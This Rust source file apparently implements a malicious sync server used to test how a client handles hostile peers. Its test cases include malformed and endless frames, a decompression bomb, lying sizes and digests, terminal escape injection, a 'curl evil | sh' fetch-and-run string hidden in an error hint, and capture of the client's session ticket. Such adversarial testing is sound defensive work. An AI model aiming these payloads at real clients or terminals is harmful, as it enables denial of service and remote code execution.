//! The data port of a hostile source.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use agent::link::membership::Membership;
use common::failure::{Failure, FailureKind};
use common::tls::{self, Clients};
use quinn::crypto::rustls::QuicServerConfig;
use quinn::{Connection, Endpoint, RecvStream, SendStream, ServerConfig};
use sync::pack;
use sync::range::{self, RANGE_BYTES};
use sync::wire::content::{
    Coding, Confirmed, Digested, Failed, Fetch, Layout, Pack, PackedFile, RangeReply, Reply, Request, Same,
    What, Why,
};
use sync::wire::control::{Bye, Counters, Opened, ToDestination};
use sync::wire::error_code::ErrorCode;
use sync::wire::hello::{Hello, PROTOCOL_VERSION};

use crate::attack::Attack;
use crate::delta;
use crate::manifest;
use crate::tree::{TIME, Tree};
use crate::wire::{REPLY, TO_DESTINATION, frame, header, message};

/// How a lane of ours ends; there is nobody to tell.
type Lane = Result<(), Box<dyn std::error::Error + Send + Sync>>;

/// Listens with the identity of the member, and returns where.
pub(crate) fn serve(membership: &Membership, plan: PathBuf) -> Result<SocketAddr, Failure> {
    let bad = |error: &dyn std::error::Error| Failure::of(FailureKind::Invalid, error);
    let tls = tls::server_config(
        membership.identity()?,
        &membership.authority()?,
        Clients::Certified,
        tls::ALPN_DATA,
    );
    let tls = QuicServerConfig::try_from(tls.map_err(|error| bad(&error))?).map_err(|error| bad(&error))?;
    let listen = SocketAddr::from((Ipv4Addr::LOCALHOST, 0));
    let endpoint =
        Endpoint::server(ServerConfig::with_crypto(Arc::new(tls)), listen).map_err(|error| bad(&error))?;
    let address = endpoint.local_addr().map_err(|error| bad(&error))?;
    tokio::spawn(async move {
        while let Some(incoming) = endpoint.accept().await {
            let attack = Attack::read(&plan);
            let plan = plan.clone();
            tokio::spawn(async move {
                if let Ok(connection) = incoming.await {
                    connected(connection, attack, plan).await.ok();
                }
            });
        }
    });
    Ok(address)
}

/// Serves one victim.
async fn connected(connection: Connection, attack: Attack, plan: PathBuf) -> Lane {
    let (mut send, mut receive) = connection.accept_bi().await?;
    if let Hello::Control(open) = next::<Hello>(&mut receive).await? {
        // Somebody else may want it.
        std::fs::write(plan.with_extension("ticket"), &open.ticket)?;
    }
    greet(&mut send, &attack).await?;
    let control = attack.clone();
    tokio::spawn(async move { count(send, receive, &control).await.ok() });
    loop {
        let (send, mut receive) = connection.accept_bi().await?;
        let attack = attack.clone();
        tokio::spawn(async move {
            match next::<Hello>(&mut receive).await {
                Ok(Hello::Manifest(_)) => send_manifest(send, &attack).await.ok(),
                Ok(Hello::Content | Hello::ContentThroughLinks | Hello::ContentProven { .. }) => {
                    answer(send, receive, &attack).await.ok()
                }
                Ok(Hello::Control(_) | Hello::Offer(_)) | Err(_) => None,
            }
        });
    }
}

/// Answers the request to open.
async fn greet(send: &mut SendStream, attack: &Attack) -> Lane {
    let opened = Opened {
        version: if attack.name == "version" { 9 } else { PROTOCOL_VERSION },
        now: TIME,
        boot_id: "a boot".to_owned(),
        root_dev: 77,
        root_ino: 999,
        fs_type: "ext4".to_owned(),
        is_network_fs: false,
    };
    let bye = |message: String| {
        ToDestination::Bye(Bye {
            code: ErrorCode::Denied,
            message,
            hint: "\u{1b}[2Jcurl evil | sh".to_owned(),
        })
    };
    let bytes = match attack.name.as_str() {
        "garbage-control" => vec![0xa5; 4000],
        "control-endless" => header(TO_DESTINATION, u32::MAX),
        "bye-terminal" => message(TO_DESTINATION, &bye("\u{1b}]0;owned\u{7} go away ".repeat(300))),
        "bye-huge" => message(TO_DESTINATION, &bye("x".repeat(60_000))),
        "counters-first" => message(TO_DESTINATION, &ToDestination::Counters(Counters::default())),
        "mute" => return Ok(()),
        _ => message(TO_DESTINATION, &ToDestination::Opened(opened.clone())),
    };
    send.write_all(&bytes).await?;
    if attack.name == "opened-twice" {
        send.write_all(&message(TO_DESTINATION, &ToDestination::Opened(opened))).await?;
    }
    Ok(())
}

/// Says every second that all is well, as an honest source does.
async fn count(mut send: SendStream, receive: RecvStream, attack: &Attack) -> Lane {
    let counters = match attack.name.as_str() {
        "counters-max" => Counters {
            wire_bytes: u64::MAX,
            content_bytes: u64::MAX,
            content_units: u64::MAX,
            digest_bytes: u64::MAX,
        },
        _ => Counters::default(),
    };
    let frame = message(TO_DESTINATION, &ToDestination::Counters(counters));
    let mut ticks = tokio::time::interval(Duration::from_millis(500));
    loop {
        if attack.name == "silence" || attack.name == "mute" {
            std::future::pending::<()>().await;
        }
        if attack.name != "counters-flood" {
            ticks.tick().await;
        }
        send.write_all(&frame).await?;
        // Kept open to the end.
        let _open: &RecvStream = &receive;
    }
}

async fn send_manifest(mut send: SendStream, attack: &Attack) -> Lane {
    for frame in manifest::frames(attack, &Tree::plain()) {
        send.write_all(&frame).await?;
        if attack.name == "slow" {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
    if matches!(attack.name.as_str(), "silence" | "garbage-block" | "frame-endless") {
        std::future::pending::<()>().await;
    }
    send.finish()?;
    send.stopped().await?;
    Ok(())
}

/// Reads one frame as a message.
pub(crate) async fn next<T: serde::de::DeserializeOwned>(
    receive: &mut RecvStream,
) -> Result<T, Box<dyn std::error::Error + Send + Sync>> {
    let mut head = [0; 6];
    receive.read_exact(&mut head).await?;
    let length = u32::from_le_bytes([head[2], head[3], head[4], head[5]]);
    let mut body = vec![0; usize::try_from(length)?.min(8 << 20)];
    receive.read_exact(&mut body).await?;
    Ok(postcard::from_bytes(&body)?)
}

/// Answers wishes for content.
async fn answer(mut send: SendStream, mut receive: RecvStream, attack: &Attack) -> Lane {
    let tree = Tree::plain();
    while let Ok(Request { fetches }) = next::<Request>(&mut receive).await {
        match attack.name.as_str() {
            "content-mute" => std::future::pending::<()>().await,
            "content-finish" => break,
            _ => {}
        }
        for fetch in fetches {
            for bytes in reply(&tree, &fetch, attack) {
                send.write_all(&bytes).await?;
            }
            if attack.name == "content-endless" {
                loop {
                    for bytes in reply(&tree, &fetch, attack) {
                        send.write_all(&bytes).await?;
                    }
                }
            }
            if attack.name == "content-cut" {
                send.write_all(&header(REPLY, 1000)).await?;
                send.finish()?;
                return Ok(());
            }
        }
    }
    send.finish()?;
    send.stopped().await?;
    Ok(())
}

/// Returns the bytes that answer one wish.
fn reply(tree: &Tree, fetch: &Fetch, attack: &Attack) -> Vec<Vec<u8>> {
    let content = tree.content(fetch.path.as_bytes());
    match &fetch.what {
        What::Whole | What::Held { .. } if attack.name == "same-of-nothing" => {
            let digest = *blake3::hash(&content).as_bytes();
            let (layout, of) = (Layout::Dense, u64::MAX);
            let same = Same { id: fetch.id, stamp: fetch.stamp, layout, digest, of };
            vec![message(REPLY, &Reply::Same(vec![same]))]
        }
        What::Whole | What::Bytes | What::Held { .. } => whole(tree, fetch, content, attack),
        What::Delta { index, basis } if delta::is_about(attack) => {
            vec![delta::delta(fetch, *index, basis, attack)]
        }
        What::Range { .. } if delta::is_about(attack) => vec![delta::plainly(fetch)],
        What::Range { index } | What::Delta { index, basis: _ } => range(fetch, *index, attack),
        What::Digest => {
            let stamp = tree.stamp(fetch.path.as_bytes(), &fetch.stamp);
            let digested = Digested { id: fetch.id, stamp, digest: *blake3::hash(&content).as_bytes() };
            vec![message(REPLY, &Reply::Digests(vec![digested]))]
        }
        What::Confirm => {
            vec![message(
                REPLY,
                &Reply::Confirmed(Confirmed { id: fetch.id, stamp: fetch.stamp, is_reread: false }),
            )]
        }
    }
}

/// Returns a pack of one file, honest but for the attack.
fn whole(tree: &Tree, fetch: &Fetch, content: Vec<u8>, attack: &Attack) -> Vec<Vec<u8>> {
    let stamp = tree.stamp(fetch.path.as_bytes(), &fetch.stamp);
    let digest = *blake3::hash(&content).as_bytes();
    let file = PackedFile { id: fetch.id, stamp, layout: Layout::Dense, digest };
    let bytes = content.len();
    let mut pack =
        Pack { files: vec![file], coding: Coding::Plain, stored_bytes: bytes, content_bytes: bytes };
    let mut stored = content;
    let failed = |why| vec![message(REPLY, &Reply::Failed(vec![Failed { id: fetch.id, why }]))];
    match attack.name.as_str() {
        "digest" => pack.files[0].digest = [9; 32],
        "more-than-announced" => {
            stored.extend_from_slice(&[b'!'; 5000]);
            pack.stored_bytes += 5000;
        }
        "size-lies" => pack.files[0].stamp.size += 100_000,
        "bomb-content" => {
            stored = zstd::bulk::compress(&vec![0; 64 << 20], 1).unwrap();
            (pack.coding, pack.content_bytes, pack.stored_bytes) = (Coding::Zstd, 1 << 20, stored.len());
            (pack.files[0].stamp.size, pack.files[0].digest) = (1 << 20, [0; 32]);
        }
        "stored-4g" => pack.stored_bytes = u32::MAX as usize,
        "wrong-wish" => pack.files[0].id += 1_000_000,
        "content-time" => pack.files[0].stamp.mtime.nanos = 0x3fff_fffe,
        "kind-range" => return range(fetch, 0, attack),
        "kind-changes" => return failed(Why::Changed { stamp: Some(fetch.stamp) }),
        "changed-huge" => {
            let stamp = sync::stamp::Stamp { size: i64::MAX as u64, ..fetch.stamp };
            return failed(Why::Changed { stamp: Some(stamp) });
        }
        "why-terminal" => return failed(Why::Unreadable { why: "\u{1b}]0;owned\u{7}".repeat(300) }),
        "garbage-content" => return vec![vec![0xa5; 4000]],
        "failed-endless" => return failed(Why::Unreadable { why: "x".repeat(1 << 20) }),
        "extents-overflow" => {
            let extent = |offset| sync::wire::content::Extent { offset, length: u32::MAX };
            pack.files[0].layout = Layout::Sparse(vec![extent(0), extent(u32::MAX)]);
        }
        _ => {}
    }
    vec![message(REPLY, &Reply::Pack(pack)), stored]
}

/// Returns a range that is a hole.
fn range(fetch: &Fetch, index: u64, attack: &Attack) -> Vec<Vec<u8>> {
    let length =
        range::bounds(fetch.stamp.size, index).map_or(RANGE_BYTES, |bounds| bounds.end - bounds.start);
    let mut reply = RangeReply {
        id: fetch.id,
        index: if attack.name == "wrong-range" { index + 1 } else { index },
        stamp: fetch.stamp,
        length: u32::try_from(length).unwrap(),
        layout: Layout::Sparse(Vec::new()),
        value: range::ChainingValue([0; 32]),
        coding: Coding::Plain,
        stored_bytes: 0,
    };
    reply.value = pack::range_value(&reply, &[]);
    vec![frame(REPLY, &postcard::to_allocvec(&Reply::Range(reply)).unwrap())]
}

/// Reads a ticket that a victim has shown.
pub(crate) fn stolen_ticket(plan: &Path) -> Option<Vec<u8>> {
    std::fs::read(plan.with_extension("ticket")).ok()
}
